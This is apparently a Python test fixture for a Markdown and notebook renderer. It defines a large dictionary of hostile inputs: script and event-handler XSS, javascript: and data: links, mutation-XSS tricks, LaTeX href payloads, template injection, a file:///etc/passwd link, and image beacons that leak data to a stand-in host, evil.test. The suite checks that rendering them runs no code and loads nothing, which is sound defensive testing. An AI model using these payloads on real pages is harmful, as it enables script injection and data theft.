"""Answers that try to run script in the page, to load something, or to pass for something else.

`HOSTILE` maps a short name to Markdown. Wherever one of them would run code, it calls `alert`, and
wherever it would load something, it asks a host below `evil.test`: a page that shows them all must
see neither. The names `EVENT` and `HOST` are those two, for whoever watches the page.
"""

from __future__ import annotations

from tests.hostile_lists import LISTED
from tests.hostile_seams import SEAMS

EVENT = "alert"
HOST = "evil.test"

_X = "alert(1)"
_S = f"https://{HOST}"

_RAW = {
    "script": f"<script>{_X}</script>",
    "script in upper case": f"<ScRiPt>{_X}</sCrIpT>",
    "script with a source": f"<script src={_S}/x.js></script>",
    "script split over lines": f"<script\n>{_X}</script\n>",
    "script after a comment": f"<!--><script>{_X}</script>-->",
    "script in a comment that ends oddly": f"<!--a--!><script>{_X}</script>",
    "script in CDATA": f"<![CDATA[<script>{_X}</script>]]>",
    "script in a processing instruction": f"<?x <script>{_X}</script>?>",
    "script in a declaration": f"<!DOCTYPE x [<script>{_X}</script>]>",
    "module script": f"<script type=module>import '{_S}/m.js'</script>",
    "image handler": f"<img src=x onerror={_X}>",
    "image handler without blanks": f"<img/src=x/onerror={_X}>",
    "image handler, tabs and line ends": f"<img\tsrc=x\nonerror\n=\n{_X}>",
    "image handler in entities": "<img src=x onerror=&#97;&#108;ert(1)>",
    "image source": f"<img src={_S}/p.png>",
    "image srcset": f'<img srcset="{_S}/p.png 1x">',
    "picture": f"<picture><source srcset={_S}/p.png><img></picture>",
    "svg onload": f"<svg onload={_X}>",
    "svg script": f"<svg><script>{_X}</script></svg>",
    "svg animate": f"<svg><a><animate attributeName=href values=javascript:{_X} /><text>x",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "svg foreignObject": f"<svg><foreignObject><body onload={_X}></foreignObject></svg>",
    "svg style": f"<svg><style>@import '{_S}/x.css';</style></svg>",
    "math annotation": (
        f"<math><annotation-xml encoding='text/html'><img src=x onerror={_X}></annotation-xml>"
    ),
    "math maction": f"<math><maction actiontype='statusline#{_S}' href='javascript:{_X}'>x</maction>",
    "math href": f"<math href='javascript:{_X}'>CLICK</math>",
    "math mglyph": f"<math><mtext><table><mglyph><style><img src=x onerror={_X}>",
    "mutation by malignmark": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_X}>"
    ),
    "mutation by noscript": f"<noscript><p title='</noscript><img src=x onerror={_X}>'>",
    "mutation by title": f"<title><p title='</title><img src=x onerror={_X}>'>",
    "mutation by textarea": f"<textarea><p title='</textarea><img src=x onerror={_X}>'>",
    "mutation by template": f"<template><p></template><img src=x onerror={_X}>",
    "mutation by select": f"<select><style></select><img src=x onerror={_X}></style>",
    "style element": f"<style>@import url({_S}/x.css); * {{background:url({_S}/b)}}</style>",
    "style attribute": f'<p style="background:url({_S}/b)">x</p>',
    "style that covers the page": '<a href="#" style="position:fixed;inset:0">x</a>',
    "link to a style sheet": f"<link rel=stylesheet href={_S}/x.css>",
    "link prefetch": f"<link rel=dns-prefetch href=//x.{HOST}>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={_S}'>",
    "base": f"<base href={_S}/>\n\n[x](y)",
    "iframe": f"<iframe src=javascript:{_X}></iframe>",
    "iframe srcdoc": f"<iframe srcdoc='<script>{_X}</script>'></iframe>",
    "object": f"<object data={_S}/x.swf></object>",
    "embed": f"<embed src={_S}/x.swf>",
    "form": f"<form action={_S}><input name=key><button>Go</button></form>",
    "button with formaction": f"<button formaction=javascript:{_X}>x</button>",
    "input image": f"<input type=image src={_S}/p.png onerror={_X}>",
    "input with autofocus": f"<input autofocus onfocus={_X}>",
    "details handler": f"<details open ontoggle={_X}>x</details>",
    "video": f"<video src={_S}/v.mp4 poster={_S}/p.png onerror={_X}></video>",
    "audio": f"<audio src={_S}/a.mp3 onerror={_X} autoplay></audio>",
    "marquee": f"<marquee onstart={_X}>x</marquee>",
    "body": f"<body onload={_X} background={_S}/b.png>",
    "frameset": f"<frameset onload={_X}><frame src={_S}></frameset>",
    "table background": f"<table background={_S}/b.png><tr><td>x</table>",
    "isindex": f"<isindex action=javascript:{_X} type=image>",
    "xmp": f"<xmp><p title='</xmp><img src=x onerror={_X}>'>",
    "plaintext": f"<plaintext><img src=x onerror={_X}>",
    "custom element": f"<x-y onclick={_X} tabindex=1 id=x autofocus onfocus={_X}>x</x-y>",
    "closing tags": f"</p></div></pre></code><script>{_X}</script>",
    "anchor with a handler": f'<a href="{_S}" onmouseover={_X}>x</a>',
    "anchor with ping": f'<a href="{_S}" ping="{_S}/ping">x</a>',
    "command linker": '<button data-commandlinker-command="terminal:create-new">Run</button>',
    "command linker with arguments": (
        '<a data-commandlinker-command="notebook:run-all-cells" '
        "data-commandlinker-args='{\"a\":1}'>x</a>"
    ),
    "class of ours": f'<a class="zenmux-image" href="{_S}/p.png">x</a>',
    "id of ours": '<div id="zenmux-board" class="zenmux-stop">x</div>',
    "nested brackets": f"<<script>{_X}//<</script>",
    "tag without an end": f"<img src=x onerror={_X} //",
    "zero byte": f"<scr\0ipt>{_X}</scr\0ipt>",
    "form feed in a tag": f"<img\x0csrc=x\x0conerror={_X}>",
    "conditional comment": f"<!--[if IE]><script>{_X}</script><![endif]-->",
    "xml stylesheet": f'<?xml-stylesheet href="javascript:{_X}"?>',
    "entities that spell a tag": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "widget view": (
        '<script type="application/vnd.jupyter.widget-view+json">{"model_id":"x"}</script>'
    ),
}

_LINKS = {
    "javascript link": f"[x](javascript:{_X})",
    "javascript link in mixed case": f"[x](JaVaScRiPt:{_X})",
    "javascript link in entities": "[x](&#106;avascript&colon;alert(1))",
    "javascript link in numbers": "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "javascript link with a tab": f"[x](java\tscript:{_X})",
    "javascript link with an encoded tab": f"[x](java&Tab;script&#10;:{_X})",
    "javascript link with a line end": f"[x](<java\nscript:{_X}>)",
    "javascript link behind a control": f"[x](\x01javascript:{_X})",
    "javascript link in brackets": f"[x](<javascript:{_X}>)",
    "javascript link behind blanks": f"[x](   javascript:{_X})",
    "javascript link, percent encoded": "[x](%6aavascript:alert(1))",
    "javascript link, escaped": f"[x](\\javascript:{_X})",
    "javascript link with a title": f"[x](javascript:{_X} \"t\" 'u')",
    "javascript by reference": f"[x][r]\n\n[r]: javascript:{_X}",
    "javascript by reference, later line": f"[x]\n\n[x]:\n  javascript:{_X}\n  'title'",
    "javascript by reference in a quote": f"[x]\n\n> [x]: <javascript:{_X}>",
    "javascript autolink": f"<javascript:{_X}>",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data link": f"[x](data:text/html,<script>{_X}</script>)",
    "data link in base64": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "file link": "[x](file:///etc/passwd)",
    "blob link": "[x](blob:https://localhost/x)",
    "relative link": "[x](/api/shutdown) [y](../lab?reset) [z](?token) [w](#id)",
    "scheme-relative link": f"[x](//{HOST}) [y](\\\\\\\\{HOST})",
    "bare scheme-relative link": f"see //{HOST}/x and https://ok.test",
    "user part": f"[ok.test](https://ok.test@{HOST}/)",
    "backslash in the host": f"[x](https://{HOST}\\@ok.test)",
    "text of another host": f"[https://ok.test/login](https://{HOST}/login)",
    "text of another host, suffix": f"[ok.test](https://ok.test.{HOST})",
    "punycode": "[x](https://xn--pple-43d.test) https://аpple.test",
    "right-to-left override": f"[\u202etset.ko](https://{HOST}) \u202ehttps://{HOST}",
    "quote in the target": f'[x](https://ok.test/"onmouseover="{_X})',
    "quote in the target, entity": "[x](https://ok.test/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;)",
    "quote in the title": f'[x](https://ok.test "\\" onmouseover=\\"{_X}")',
    "angle brackets in the target": f"[x](https://ok.test/<img/src=x/onerror={_X}>)",
    "mail with headers": "[x](mailto:a@ok.test?bcc=b@evil.test&body=x)",
    "mail that is none": f"[x](mailto:javascript:{_X})",
    "port that is none": f"[x](https://ok.test:80:{_X}@{HOST})",
    "http without slashes": f"[x](http:{HOST}) [y](https:/{HOST})",
    "jar and view-source": f"[x](jar:https://{HOST}!/) [y](view-source:https://{HOST})",
}

_IMAGES = {
    "image": f"![x]({_S}/leak?key=1)",
    "image in angle brackets": f"![x](<{_S}/leak ?>)",
    "image by reference": f"![x][r]\n\n[r]: {_S}/leak",
    "image by shortcut": f"![leak]\n\n[leak]: {_S}/leak",
    "image by reference in mixed case": f"![Leak][]\n\n[lEAK]: {_S}/leak",
    "image in a link": f"[![x]({_S}/leak)]({_S}/click)",
    "image in a link by reference": f"[![a][i]][l]\n\n[i]: {_S}/i\n[l]: {_S}/l",
    "image in an image": f"![![x]({_S}/a)]({_S}/b)",
    "image in a heading": f"# ![x]({_S}/leak)",
    "image in a table": f"| a |\n|---|\n| ![x]({_S}/leak) |",
    "image in a task": f"- [ ] ![x]({_S}/leak)",
    "image in emphasis": f"***![x]({_S}/leak)***",
    "svg as data": f"![x](data:image/svg+xml,<svg onload={_X}>)",
    "svg as data in base64": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "scheme-relative image": f"![x](//{HOST}/leak)",
    "relative image": "![x](/files/x.svg)",
    "javascript image": f"![x](javascript:{_X})",
    "handler in the description": f'![" onerror="{_X}]({_S}/p.png)',
    "handler in the title": f"![x]({_S}/p.png '\" onerror={_X} x=\"')",
    "attachment": "![x](attachment:x.png)",
}

_CODE = {
    "language that closes": f'```"><img src=x onerror={_X}>\ncode\n```',
    "language with a class": "```python zenmux-stop jp-x\ncode\n```",
    "language with attributes": f"```{{.python onclick={_X} #id}}\ncode\n```",
    "fence that closes early": f"```\n</code></pre><script>{_X}</script>\n```",
    "fence without an end": f"```html\n</pre><img src=x onerror={_X}>",
    "code span": f"`<img src=x onerror={_X}>` ``</code><script>{_X}</script>``",
    "lone backticks": f"` <img src=x onerror={_X}> `` <script>{_X}</script>",
    "code span cut by a cell": f"| a | b |\n|---|---|\n| `x | <img src=x onerror={_X}>` |",
    "indented code": f"    </code></pre><script>{_X}</script>",
    "tilde fence in a quote": f"> ~~~\n> </pre>\n<script>{_X}</script>",
    "list that leaves its fence": f"- ```\n  a\n<img src=x onerror={_X}>",
    "highlighted strings": f'```js\nconst a = "</span></pre><script>{_X}</script>";\n```',
}

_FORMULAS = {
    "text in a formula": f"\\(\\text{{<img src=x onerror={_X}>}}\\)",
    "text in a formula without blanks": f"$$\\text{{<img/src/onerror={_X}>}}$$",
    "script in a formula": f"\\[\\text{{<script>{_X}</script>}}\\]",
    "entity in a formula": "$\\text{&#60;img src=x onerror=alert(1)&#62;}_1$",
    "entities twice in a formula": "$\\text{&amp;lt;img src=x onerror=alert(1)&amp;gt;}_1$",
    "mbox": f"\\(\\mbox{{<svg onload={_X}>}} \\mathrm{{<b>}}\\)",
    "operator name": f"\\(\\operatorname{{<img src=x onerror={_X}>}}\\)",
    "href": f"\\(\\href{{javascript:{_X}}}{{x}}\\)",
    "href in dollars": f"$\\href{{javascript:{_X}}}{{x}}$ $$\\href{{javascript:{_X}}}{{y}}$$",
    "href in an environment": f"\\begin{{equation}}\\href{{javascript:{_X}}}{{x}}\\end{{equation}}",
    "url": f"\\(\\url{{javascript:{_X}}}\\)",
    "style and class": f"$\\style{{background:url({_S}/b)}}{{x}} \\cssId{{a}}{{y}}$",
    "box with a style": f"\\(\\bbox[background:url({_S}/b)]{{x}}\\)",
    "include graphics": f"\\(\\includegraphics{{{_S}/p.png}}\\)",
    "require": "\\(\\require{html}\\href{javascript:alert(1)}{x}\\)",
    "mmlToken": f"\\(\\mmlToken{{mi}}[href='javascript:{_X}']{{x}}\\)",
    "unicode with a font": f"\\(\\unicode[url({_S})]{{65}}\\)",
    "data attributes": "\\(\\data{commandlinker-command=terminal:create-new}{x}\\)",
    "macro that loops": "\\(\\def\\a{\\a\\a}\\a\\) $\\newcommand{\\b}{\\b}\\b_1$",
    "macro outside a formula": "$$\\let\\x=\\href$$ \\(\\x{javascript:alert(1)}{y}\\)",
    "label and reference": "\\(\\label{x}\\) \\ref{x} \\eqref{x} \\begin{align}\\tag{<b>}x\\end{align}",
    "colour that is none": f"\\(\\color{{red;background:url({_S})}}{{x}}\\)",
    "width that is none": f'\\(\\hspace{{1em" onclick="{_X}}}x\\)',
    "array columns": f'\\(\\begin{{array}}{{c" onclick="{_X}}}x\\end{{array}}\\)',
    "formula that spans markup": f"\\( <img src=x onerror={_X}> \\) $a_<img src=x onerror={_X}>$",
    "nesting": "\\(" + "{" * 60 + "x" + "}" * 60 + "\\)",
}

_MIXED = {
    "attribute list": f"# x {{: onclick={_X} #id .zenmux-stop }}\n\n[y](https://ok.test){{onclick={_X}}}",
    "definition list": f"a\n: <img src=x onerror={_X}>",
    "footnote": f"a[^1]\n\n[^1]: <img src=x onerror={_X}> [x](javascript:{_X})",
    "abbreviation": f'*[HTML]: " onmouseover={_X}\n\nHTML',
    "Markdown in HTML": f"<div markdown=1>\n[x](javascript:{_X})\n</div>",
    "alignment with a style": "| a |\n|:-:|\n| b |\n\n<td style='text-align:left;background:url(x)'>",
    "link in a table": f"| a |\n|---|\n| [x](javascript:{_X}) |",
    "email with markup": f'<a@b.test"onclick={_X}> <"<script>{_X}</script>"@b.test>',
    "wiki and directive": f"[[javascript:{_X}]] :::x onclick={_X}\n:::",
    "break with a handler": f"a<br onclick={_X}>b<br/onclick={_X}>c",
    "stash of the second engine": "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03",
    "mark of a code block": f"\ufdd0 <b>\n\n```\n\ufdd0<script>{_X}</script>\n```",
    "template and handlebars": "{{constructor.constructor('alert(1)')()}} {% raw %} ${alert(1)}",
    "late definition": f"[x] ![y]\n\n- a\n- b\n\n[x]: javascript:{_X}\n[y]: {_S}/leak",
}

_OWN = {**_RAW, **_LINKS, **_IMAGES, **_CODE, **_FORMULAS, **_MIXED}
HOSTILE: dict[str, str] = {**_OWN, **LISTED, **SEAMS}
